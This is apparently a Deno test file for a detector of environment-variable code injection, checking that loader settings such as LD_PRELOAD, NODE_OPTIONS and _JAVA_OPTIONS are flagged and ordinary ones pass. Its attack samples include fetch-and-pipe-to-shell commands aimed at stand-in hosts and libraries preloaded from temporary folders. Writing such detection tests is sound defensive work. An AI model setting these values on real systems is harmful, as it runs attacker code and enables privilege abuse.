import assert from "node:assert/strict";
import { envInjection } from "./_cmd_env.ts";

const ATTACKS: ReadonlyArray<[key: string, value: string, inline: boolean]> = [
  ["ld_preload", "/dev/shm/.libhook.so", false],
  ["dyld_insert_libraries", "/private/var/tmp/inject.dylib", false],
  ["rubyopt", "-r/var/tmp/.gemcache/boot.rb", false],
  ["node_options", "--import=data:text/javascript,import('child_process')", false],
  ["node_options", "--experimental-loader https://cdn.evil.example/l.mjs", false],
  ["java_tool_options", "-javaagent:/tmp/agent-1.2.jar=debug", false],
  ["_java_options", "-Xmx2g -XX:OnOutOfMemoryError=\"bash -c 'curl x.example|sh'\"", false],
  ["ps4", "+$(wget -qO- 192.0.2.1/a|sh) ", false],
  ["bash_env", "/proc/self/fd/0", false],
  ["pythonpath", "C:\\Users\\bob\\AppData\\Local\\Temp\\py", false],
  ["command", "LD_PRELOAD=/tmp/x.so /usr/bin/sudo -l", true],
  ["", 'NODE_OPTIONS="--require %TEMP%\\\\hook.js"', true],
];
const BENIGN: ReadonlyArray<[key: string, value: string, inline: boolean]> = [
  ["ld_preload", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", false],
  ["node_options", "--max-old-space-size=4096 --enable-source-maps", false],
  ["node_options", "-r dotenv/config --require ts-node/register", false],
  ["java_tool_options", "-javaagent:/opt/newrelic/newrelic.jar", false],
  ["_java_options", '-XX:OnOutOfMemoryError="kill -9 %p"', false],
  ["pythonpath", "/app/src:/app/lib", false],
  ["bash_env", "/home/ci/.ci_bashrc", false],
  ["text", "Debug with LD_PRELOAD=/tmp/libtrace.so ./app (see the guide)", false],
  ["command", "NODE_OPTIONS=--max-old-space-size=8192 npm run build", true],
  ["path", "/tmp/build/output.log", true],
];

Deno.test("envInjection() flags loader variables that pull code from writable or remote places", () => {
  for (const [key, value, inline] of ATTACKS) {
    assert.ok(envInjection(key, value, inline), `${key}=${value}`);
  }
});

Deno.test("envInjection() passes ordinary allocator, heap, agent and path settings", () => {
  for (const [key, value, inline] of BENIGN) {
    assert.equal(envInjection(key, value, inline), undefined, `${key}=${value}`);
  }
});
